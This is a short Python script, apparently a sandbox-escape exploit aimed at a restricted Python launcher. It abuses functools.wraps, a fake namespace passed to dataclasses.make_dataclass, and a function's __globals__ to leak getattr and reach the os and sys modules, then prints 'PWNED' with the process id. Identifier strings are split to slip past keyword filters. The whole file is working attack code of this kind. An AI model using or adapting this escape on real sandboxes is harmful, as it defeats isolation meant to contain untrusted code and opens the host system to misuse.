import functools, dataclasses, abc
box = {}
class W:
    def __setattr__(self, k, v):
        box[k] = v
uw = functools.wraps((1).__add__).func
uw(W(), (1).__add__, ("__red" + "uce__",), ())
red = box["__red" + "uce__"]

got = []
class NS:
    def __getitem__(self, k):
        got.append(k)
        return 0
ns = NS()
ns.keys = red
# the launcher's make_dataclass wrapper runs dict(namespace) in its own frame: dict() calls
# namespace.keys() (red), which takes getattr from that frame's builtins, then ns[key]
try:
    dataclasses.make_dataclass("C", [], namespace=ns)
except Exception as e:
    print("after:", type(e).__name__, str(e)[:60])
rg = got[0]
print("helper:", rg)
G = rg(type(abc.ABC).register, "__glo" + "bals__")
print("PW" + "NED", G["o" + "s"].getpid(), len(G["s" + "ys"].modules))
